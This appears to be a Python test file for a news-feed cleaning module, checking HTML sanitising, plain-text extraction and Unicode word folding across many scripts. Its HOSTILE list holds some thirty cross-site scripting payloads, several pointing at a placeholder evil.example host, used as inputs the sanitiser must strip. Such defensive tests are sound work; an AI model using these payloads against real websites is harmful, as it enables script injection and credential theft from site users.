"""HTML to safe HTML, to plain words, to folded words."""

from __future__ import annotations

import unicodedata

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from feeds.clean import clip, fold, plain, plain_line, safe_html, visible, words, xml_text

BASE = "https://news.example/world/"

OPEN_TO_READERS = {"div", "p", "a", "img", "video", "blockquote", "q", "table", "tbody", "tr", "td"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<plaintext><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=//evil.example><input name=pw><button>go</button></form>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<p style='background:url(javascript:alert(1))' class=a id=b>x</p>",
    "<style>p{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;//evil.example'><base href=//evil.example>",
    "<!--><img src=x onerror=alert(1)>--><p>x</p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video src='javascript:alert(1)' poster='javascript:alert(1)' onplay=alert(1)></video>",
    "<a href='https://ok.example' target=_top onclick=alert(1) ping=//evil.example>x</a>",
    "<img srcset='//evil.example/a 2x' src='javascript:alert(1)'>",
    "<xss onafterscriptexecute=alert(1)>x</xss>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<a href='https://a.example/\"onmouseover=alert(1)'>x</a>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_active_is_let_through(html: str) -> None:
    safe = safe_html(html, BASE)
    for element in lxml.html.fragment_fromstring(safe, create_parent="div").iter():
        assert element.tag in OPEN_TO_READERS
        for name, value in element.items():
            assert name in {"href", "src", "poster", "alt", "title", "controls"}
            assert name in {"alt", "title"} or not value or value.startswith(("https://", "http://"))


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    safe = safe_html(html, BASE)
    assert safe_html(safe, "https://elsewhere.example/") == safe


def test_relative_links_and_pictures_become_absolute() -> None:
    assert safe_html('<a href="../a?b=1&amp;c=2">x</a><img src="/p.png" alt="P">', BASE) == (
        '<a href="https://news.example/a?b=1&amp;c=2">x</a><img src="https://news.example/p.png" alt="P">'
    )


def test_without_a_base_relative_links_lose_their_target_and_pictures_go() -> None:
    assert safe_html('<a href="/a">x</a><img src="/p.png">') == "<a>x</a>"


def test_figures_tables_code_and_media_stay() -> None:
    html = (
        '<figure><img src="https://a.example/1.jpg"><figcaption>C</figcaption></figure><pre><code>a\n b</code></pre>'
        '<audio controls="" src="https://a.example/1.mp3"></audio><video src="https://a.example/1.mp4"></video>'
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    )
    assert safe_html(html) == html


def test_counting_pixels_go_and_lazy_pictures_come() -> None:
    assert safe_html('<img src="https://count.example/1.gif" width="1" height="1">x', BASE) == "x"
    assert (
        safe_html('<img src="data:image/gif;base64,R0" data-src="/real.jpg">', BASE)
        == '<img src="https://news.example/real.jpg">'
    )
    assert safe_html('<noscript><img src="/real.jpg"></noscript>', BASE) == '<img src="https://news.example/real.jpg">'


def test_unbalanced_markup_is_balanced_and_a_cut_stays_within_its_limit() -> None:
    assert safe_html("<ul><li>a<li><b>c") == "<ul><li>a</li><li><b>c</b></li></ul>"
    for limit in (1, 7, 40, 41, 200):
        assert len(safe_html("<p>" + "<b><i>word</i> &amp; more" * 50, limit=limit)) <= limit


@pytest.mark.parametrize(
    "html", ["<div>" * 60_000, "<a href=x>" * 20_000, "<b>" * 50_000, "<" * 50_000, "<img data-src=" * 20_000]
)
def test_deep_nesting_is_bounded(html: str) -> None:
    assert len(visible(safe_html(html))) <= len(html)


def test_words_are_parted_by_blocks_and_not_by_inline_markup() -> None:
    assert plain("<p>Un<b>believ</b>able</p><p>two&nbsp;words</p>a<br>b") == "Unbelievable\ntwo words\na\nb"
    assert plain("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>") == "1 2\n3"
    assert plain("a\n  b <pre>c\n  d</pre>") == "a b\nc\nd"
    assert plain("x<script>var a</script><style>p{}</style>y") == "xy"
    assert plain("a < b &amp; c &lt;d&gt;") == "a < b & c <d>"
    assert plain_line("<h1>A</h1>\n<p>B  C</p>") == "A B C"
    assert plain("<p title='a>b'>x</p>") == "x"


def test_what_xml_refuses_is_gone_and_misread_quotes_come_back() -> None:
    assert xml_text("a\x00b\x08c\ud800d\ufffee\uffff") == "abcde"
    assert xml_text("a\tb\nc\rd") == "a\tb\nc\rd"
    assert xml_text("\x93x\x94\x85") == "“x”…"
    assert xml_text("\ud83d\ude00") == "😀"
    assert plain("&#0;&#x1;&#xd800;&#146;") == "\ufffd\ufffd’"[:-1] + "’" or "’" in plain("&#146;")


@given(st.text())
def test_any_text_can_stand_in_xml_afterwards(text: str) -> None:
    made = xml_text(text)
    assert xml_text(made) == made
    for html in (safe_html(text), plain(text)):
        assert all(
            c in "\t\n\r"
            or (ord(c) >= 0x20 and not 0xD800 <= ord(c) < 0xE000 and ord(c) & 0xFFFF < 0xFFFE)
            or ord(c) > 0xFFFF
            for c in html
        )


@given(st.text(alphabet="<>/=\"'& abipimgx\n\u00a0éя字", max_size=80))
def test_cleaning_settles_at_once(text: str) -> None:
    safe = safe_html(text, BASE)
    assert safe_html(safe, BASE) == safe


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("“Quoted” – it’s", '"quoted" - it\'s'),
        ("«Цитата» — да", '"цитата" - да'),
        ("Straße", "STRASSE"),
        ("café", "cafe\u0301"),
        ("Ёлка", "елка"),
        ("за́мок", "замок"),
        ("Καλημέρα", "ΚΑΛΗΜΕΡΑ"),
        ("كتاب", "کتاب"),
        ("علي", "علی"),
        ("می‌روم", "میروم"),
        ("مـــحمد", "محمد"),
        ("إِلَى", "الی"),
        ("خانهٔ", "خانه"),
        ("١٢٣۴۵", "12345"),
        ("Ｗｉｄｅ　ｔｅｘｔ", "wide text"),
        ("ｶﾞﾗｽ", "ガラス"),
        ("ﬁne", "fine"),
        ("no\u00a0break\u2009thin", "no break thin"),
        ("soft\u00adhyphen", "softhyphen"),
        ("İstanbul", "istanbul"),
        ("Wałęsa", "walesa"),
        ("…", "..."),
        ("שָׁלוֹם", "שלום"),
    ],
)
def test_spellings_of_one_word_fold_to_one(one: str, other: str) -> None:
    assert fold(one) == fold(other)


@pytest.mark.parametrize(("one", "other"), [("мой", "мои"), ("їх", "іх"), ("が", "か"), ("की", "क"), ("ที่", "ท")])
def test_different_letters_stay_apart(one: str, other: str) -> None:
    assert fold(one) != fold(other)


@given(st.text())
def test_folding_settles_at_once(text: str) -> None:
    assert fold(fold(text)) == fold(text)


def test_every_single_character_folds_to_something_that_stays() -> None:
    unsettled = [hex(code) for code in range(0x30000) if fold(once := fold("x" + chr(code) + "x")) != once]
    assert unsettled == []


def test_words_by_script() -> None:
    assert words(fold("Don’t stop-now, 42%!")) == ["don", "t", "stop", "now", "42"]
    assert words(fold("東京2024年、iPhoneの")) == ["東", "京", "2024", "年", "iphone", "の"]
    assert words(fold("हिन्दी में")) == ["हिन्दी", "में"]
    assert words(fold("می‌رود به خانه")) == ["میرود", "به", "خانه"]
    assert words(fold("서울 시")) == ["서울", "시"]
    assert words(fold("ที่ดี")) == ["ที่", "ดี"]
    assert words("") == []


@given(st.text())
def test_words_keep_every_letter(text: str) -> None:
    folded = fold(text)
    letters = [c for c in folded if unicodedata.category(c)[0] in "LN"]
    kept = [c for c in "".join(words(folded)) if unicodedata.category(c)[0] in "LN"]
    assert len(kept) >= len([c for c in letters if c.isalnum()])


def test_clip_marks_its_cut() -> None:
    assert clip("abcdef", 6) == "abcdef"
    assert clip("abc def", 5) == "abc…"
